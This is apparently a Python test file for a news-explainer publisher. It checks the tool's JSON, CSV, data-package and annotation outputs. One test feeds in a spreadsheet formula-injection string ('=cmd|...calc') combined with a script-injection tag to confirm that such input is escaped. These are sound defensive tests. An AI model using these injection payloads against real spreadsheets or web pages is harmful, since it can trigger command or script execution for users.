"""What can be downloaded of an explainer: read by what others would read it with."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from frictionless import Package, validate
from frictionless.resources import TableResource
from tests.explaining import explain

from ontherecord.content.folder import list_folder
from ontherecord.content.reading import Rules, read_content
from ontherecord.publish.addresses import Addresses, find_folder, lead_from_folder, lead_to_folder
from ontherecord.publish.tables.fields import ENTRIES, SITE_TABLES, TABLES
from ontherecord.publish.tables.schema import make_data_schema
from ontherecord.publish.tables.spreadsheet import FORMULA, read_cell, write_cell, write_lines
from ontherecord.publish.tables.writing import Place, Written, write_explainer
from ontherecord.verify.explainer import Explainer
from ontherecord.view.explainer import view_explainer

PLACE = Place(
    Addresses("https://example.org/news/", "talks/"), "talks/", "./", "https://example.org/s.json", "2024-08-21"
)
PEOPLE = """\
osei: {name: Rana Osei, role: minister, also: [R. Osei], wikidata: Q42, links: [{title: More, url: "https://example.net/osei"}]}
"""
ARTICLE = """\
# The *bridge*

“The bridge is safe,” Rana Osei said on Monday, “and it will be mended.” At least 400 people saw it, she said.

It opened in 1932.
"""
RECORD = """\
summary: What is known.
authors: [Ola Berg]
article: {title: Bridge closed, publisher: The Paper, url: "https://example.net/a"}
sources: {act: {title: The act, url: "https://example.net/act", published: 2020~}}
statements:
  - {id: safe, who: osei, quote: "The bridge is safe, and it will be mended", to: reporters, date: 2024-08-19}
  - {id: heard, who: medics, paraphrase: "Nobody was hurt, they said.", source: act, basis: unnamed}
numbers:
  - {id: saw, figure: at least 400 people, label: people who saw it, according_to: osei, as_of: 2024-08}
timeline:
  - {id: opened, date: 1932, event: It opens, passage: It opened in 1932}
  - {id: mended, date: 2024-09/.., event: It is mended, source: act}
questions: [{id: when, text: When will it open?}]
terms: [{id: span, term: span, meaning: What lies between., source: act}]
corrections: [{id: fewer, date: 2024-08-20, kind: correction, entry: saw, text: We said 500., was: "500", now: "400"}]
"""


def write(record: str = RECORD, article: str = ARTICLE, people: str = PEOPLE) -> Written:
    explainer = explain(record, article, people)
    return write_explainer(explainer, view_explainer(explainer), PLACE)


def read_json(written: Written, name: str) -> Any:
    return json.loads(written.files[name])


def read_table(content: bytes) -> list[dict[str, str]]:
    """As a spreadsheet reads it, and with what made it safe undone."""
    lines = csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [{name: read_cell(cell) for name, cell in line.items()} for line in lines]


def anchored(text: str, selectors: list[dict[str, Any]]) -> str:
    """The words that an annotation means, found as the W3C says; what is found twice is an error."""
    words = {one["type"]: one for one in selectors}
    quote, position = words["TextQuoteSelector"], words["TextPositionSelector"]
    around = quote["prefix"] + quote["exact"] + quote["suffix"]
    assert text.count(around) == 1, around
    assert text.index(around) + len(quote["prefix"]) == position["start"]
    assert position["end"] - position["start"] == len(quote["exact"])
    return str(quote["exact"])


@pytest.fixture(scope="module")
def ours(repository: Path) -> list[tuple[Explainer, Written]]:
    content = read_content(list_folder(repository / "content", "content"), Rules())
    assert content.explainers
    return [(one, write_explainer(one, view_explainer(one), PLACE)) for one in content.explainers]


def test_the_files_have_their_names() -> None:
    assert sorted(write().files) == [
        "annotations.jsonld",
        "data.json",
        "datapackage.json",
        "numbers.csv",
        "statements.csv",
        "timeline.csv",
        "timeline.json",
    ]


def test_the_record_is_resolved() -> None:
    data = read_json(write(), "data.json")
    page = "https://example.org/news/talks/"
    assert data["statements"] == [
        {
            "id": "statement-safe",
            "address": f"{page}#statement-safe",
            "who": "Rana Osei",
            "who_id": "osei",
            "role": "minister",
            "kind": "direct",
            "words": "The bridge is safe, and it will be mended",
            "to": "reporters",
            "date": "2024-08-19",
            "date_first": "2024-08-19",
            "date_last": "2024-08-19",
            "passage": "The bridge is safe, … and it will be mended",
            "start": 13,
            "end": 82,
            "parts": [{"start": 13, "end": 32}, {"start": 61, "end": 82}],
        },
        {
            "id": "statement-heard",
            "address": f"{page}#statement-heard",
            "who": "medics",
            "kind": "paraphrase",
            "words": "Nobody was hurt, they said.",
            "basis": "unnamed",
            "source": "The act",
            "source_address": "https://example.net/act",
        },
    ]
    assert {key: data["numbers"][0][key] for key in ("qualifier", "low", "high", "unit", "as_of_last")} == {
        "qualifier": "at least",
        "low": 400,
        "high": 400,
        "unit": "people",
        "as_of_last": "2024-08-31",
    }
    assert data["timeline"][1]["date_first"] == "2024-09-01"
    assert "date_last" not in data["timeline"][1]
    assert data["people"]["osei"]["wikidata"] == "Q42"
    assert data["sources"]["act"]["published_first"] == "2020-01-01"
    assert data["corrections"][0]["entry"] == "number-saw"
    assert data["changed"] == "2024-08-21"


def test_places_are_those_of_the_text_that_is_given() -> None:
    data = read_json(write(), "data.json")
    text = data["article"]["text"]
    assert text.startswith("The bridge\n\n“The bridge is safe,”")
    part, other = data["statements"][0]["parts"]
    assert text[part["start"] : part["end"]] == "The bridge is safe,"
    assert text[other["start"] : other["end"]] == "and it will be mended"
    assert text[data["numbers"][0]["start"] : data["numbers"][0]["end"]] == "At least 400"


def test_our_own_data_is_as_its_schema_says(ours: list[tuple[Explainer, Written]]) -> None:
    schema = make_data_schema()
    jsonschema.Draft7Validator.check_schema(schema)
    validator = jsonschema.Draft7Validator(schema, format_checker=jsonschema.Draft7Validator.FORMAT_CHECKER)
    for _, written in ours:
        assert [error.message for error in validator.iter_errors(read_json(written, "data.json"))] == []
    for wrong in ({"statements": [{"id": "x"}]}, {"nonsense": 1}, {"status": "old"}):
        assert list(validator.iter_errors(read_json(ours[0][1], "data.json") | wrong))


def test_our_own_places_are_right(ours: list[tuple[Explainer, Written]]) -> None:
    found = 0
    for explainer, written in ours:
        data = read_json(written, "data.json")
        text = data.get("article", {}).get("text")
        for table in ENTRIES if text else ():
            for entry in data[table.name]:
                if "start" in entry and "parts" not in entry:
                    assert text[entry["start"] : entry["end"]] == entry["passage"]
                    found += 1
        collection = read_json(written, "annotations.jsonld")
        items = collection["first"]["items"]
        assert len(items) == collection["total"]
        is_shown = explainer.record.status != "withdrawn"
        assert len(items) == (sum(bool(one.spans) for one in explainer.restings) if is_shown else 0)
        for item in items if text else ():
            targets = item["target"] if isinstance(item["target"], list) else [item["target"]]
            found += sum(anchored(text, target["selector"]) != "" for target in targets)
    assert found > 200


def test_annotations_are_about_the_article_where_it_was_published() -> None:
    items = read_json(write(), "annotations.jsonld")["first"]["items"]
    safe = items[0]
    assert safe["id"] == "https://example.org/news/talks/annotations.jsonld#statement-safe"
    assert safe["body"] == [
        {
            "type": "TextualBody",
            "value": "Rana Osei: “The bridge is safe, and it will be mended”",
            "format": "text/plain",
            "language": "en",
        },
        "https://example.org/news/talks/#statement-safe",
    ]
    assert [one["source"] for one in safe["target"]] == ["https://example.net/a", "https://example.net/a"]
    own = write(
        RECORD.replace('article: {title: Bridge closed, publisher: The Paper, url: "https://example.net/a"}\n', "")
    )
    first = read_json(own, "annotations.jsonld")["first"]["items"][0]
    assert first["target"][0]["source"] == "https://example.org/news/talks/#article"


@pytest.mark.parametrize("display", ["passages", "none"])
def test_no_more_of_an_article_is_given_than_readers_see(display: str) -> None:
    sentence = "It opened in 1932 with a band that nobody paid."
    record = RECORD.replace("article: {", f"article: {{display: {display}, ")
    written = write(record, ARTICLE.replace("It opened in 1932.", sentence))
    said = b"\n".join(written.files.values()).decode() + "".join(written.lines.values())
    assert "with a band" not in said
    assert "said on Monday" not in said
    assert ("It opened in 1932" in said) is (display == "passages")
    assert "The bridge is safe" in said  # the quote is the page's own
    data = read_json(written, "data.json")
    assert "text" not in data["article"]
    assert data["timeline"][0]["start"] == text_start(ARTICLE)
    selectors = [one["target"] for one in read_json(written, "annotations.jsonld")["first"]["items"]]
    assert "prefix" not in json.dumps(selectors)


def text_start(article: str) -> int:
    return explain("numbers: []", article).article.text.index("It opened in 1932")


def test_of_a_withdrawn_explainer_nothing_is_said_again() -> None:
    record = RECORD.replace("summary:", "status: withdrawn\nsummary:").replace("kind: correction", "kind: retraction")
    written = write(record)
    said = b"\n".join(written.files.values()).decode() + "".join(written.lines.values())
    for gone in ("bridge", "400 people", "It opens", "Osei", "The act", "What is known"):
        assert gone not in said
    data = read_json(written, "data.json")
    assert data["status"] == "withdrawn"
    assert [one["text"] for one in data["corrections"]] == ["We said 500."]
    assert data["statements"] == []
    assert read_table(written.files["statements.csv"]) == []
    assert list(jsonschema.Draft7Validator(make_data_schema()).iter_errors(data)) == []


def test_without_events_there_is_no_timeline_to_open() -> None:
    written = write("numbers: [{figure: 400 people, label: people, passage: 400 people}]", "400 people came.", "")
    assert "timeline.json" not in written.files
    assert read_table(written.files["timeline.csv"]) == []


def test_tables_are_what_their_package_says(ours: list[tuple[Explainer, Written]], tmp_path: Path) -> None:
    for explainer, written in ours:
        folder = tmp_path / explainer.name
        folder.mkdir(parents=True)
        for name, content in written.files.items():
            (folder / name).write_bytes(content)
        report = validate(folder / "datapackage.json")
        assert report.flatten(["type", "rowNumber", "fieldName", "note"]) == []
        data = json.loads(written.files["data.json"])
        for resource in Package(folder / "datapackage.json").resources:
            assert isinstance(resource, TableResource)
            rows = [row.to_dict() for row in resource.read_rows()]
            assert [row["id"] for row in rows] == [entry["id"] for entry in data[resource.name]]
    wrong = tmp_path / "wrong"
    wrong.mkdir()
    changed = dict(ours[0][1].files)
    numbers = changed["numbers.csv"].replace(b",exactly,", b",roughly,").replace(b",about,", b",roughly,")
    for name, made in (changed | {"numbers.csv": numbers}).items():
        (wrong / name).write_bytes(made)
    assert {error[0] for error in validate(wrong / "datapackage.json").flatten(["type"])} == {"constraint-error"}


def test_a_table_says_what_the_record_says() -> None:
    written = write()
    data = read_json(written, "data.json")
    for table in TABLES:
        lines = read_table(written.files[f"{table.name}.csv"])
        told = [
            {name: str(value).lower() if isinstance(value, bool) else str(value) for name, value in entry.items()}
            for entry in data[table.name]
        ]
        assert [{name: cell for name, cell in line.items() if cell} for line in lines] == [
            {name: value for name, value in entry.items() if name != "parts"} for entry in told
        ]
        assert list(lines[0]) == [column.name for column in table.columns]


def test_a_line_of_the_whole_site_names_its_explainer() -> None:
    written = write()
    for table in TABLES:
        own = written.files[f"{table.name}.csv"].decode().split("\r\n")[1:-1]
        assert written.lines[table.name].split("\r\n")[:-1] == [f"desk/talks,{line}" for line in own]
    assert list(written.lines) == [table.name for table in SITE_TABLES]
    assert all(len(table.columns) == len(set(table.columns)) for table in (*SITE_TABLES, *ENTRIES))


@pytest.mark.parametrize("first", sorted(FORMULA))
def test_no_text_is_a_formula(first: str) -> None:
    text = f'{first}HYPERLINK("https://example.net/?"&A1, "open")'
    line = write_lines([(text, 1, None, True)])[0]
    cells = next(csv.reader(io.StringIO(line, newline="")))
    assert cells[0] == f"'{text}"
    assert cells[1:] == ["1", "", "true"]
    assert read_cell(cells[0]) == text


def test_numbers_stay_numbers() -> None:
    assert write_lines([(-5, -0.5, 10**18)]) == ["-5,-0.5,1000000000000000000\r\n"]


@pytest.mark.parametrize(
    "text", ["", "a", "a,b", 'say "so"', "two\nlines", "cr\rhere", " =1", "’=1", "“=1”", "é=", "'", "''a"]
)
def test_every_text_comes_back(text: str) -> None:
    line = write_cell(text) + "," + write_cell("end") + "\r\n"
    cells = next(csv.reader(io.StringIO(line, newline="")))
    assert [read_cell(cell) for cell in cells] == [text, "end"]


def test_hostile_words_stay_words(tmp_path: Path) -> None:
    hostile = "=cmd|'/C calc'!A0\",\"<script>alert(1)</script>"
    quoted = json.dumps(hostile)
    record = f"""\
statements: [{{who: {quoted}, paraphrase: {quoted}, about: {quoted}, source: act}}]
sources: {{act: {{title: {quoted}, url: "https://example.net/"}}}}
timeline: [{{date: 1932, event: {quoted}, detail: {quoted}, source: act}}]
"""
    written = write(record, "Nothing.", "")
    row = read_table(written.files["statements.csv"])[0]
    assert [row[name] for name in ("who", "words", "about", "source")] == [hostile] * 4
    raw = next(csv.DictReader(io.StringIO(written.files["statements.csv"].decode("utf-8-sig"), newline="")))
    assert not [cell for cell in raw.values() if cell[:1] in FORMULA - {"'"} and cell]
    assert read_json(written, "data.json")["statements"][0]["who"] == hostile
    slide = read_json(written, "timeline.json")["events"][0]["text"]
    assert "<" not in slide["headline"]
    (tmp_path / "t.csv").write_bytes(written.files["timeline.csv"])
    assert TableResource(path=str(tmp_path / "t.csv")).read_rows()[0]["event"] == f"'{hostile}"


@pytest.mark.parametrize(
    "page, folder, there, back",
    [
        ("talks/", "talks/", "./", "./"),
        ("", "", "./", "./"),
        ("gaza/talks/", "gaza/talks/", "./", "./"),
        ("talks.html", "talks/", "talks/", "../talks.html"),
        ("gaza/talks.html", "gaza/talks/", "talks/", "../talks.html"),
        ("gaza/index.html", "gaza/", "./", "index.html"),
        ("index.html", "", "./", "index.html"),
    ],
)
def test_files_lie_beside_their_page(page: str, folder: str, there: str, back: str) -> None:
    assert (find_folder(page), lead_to_folder(page), lead_from_folder(page)) == (folder, there, back)
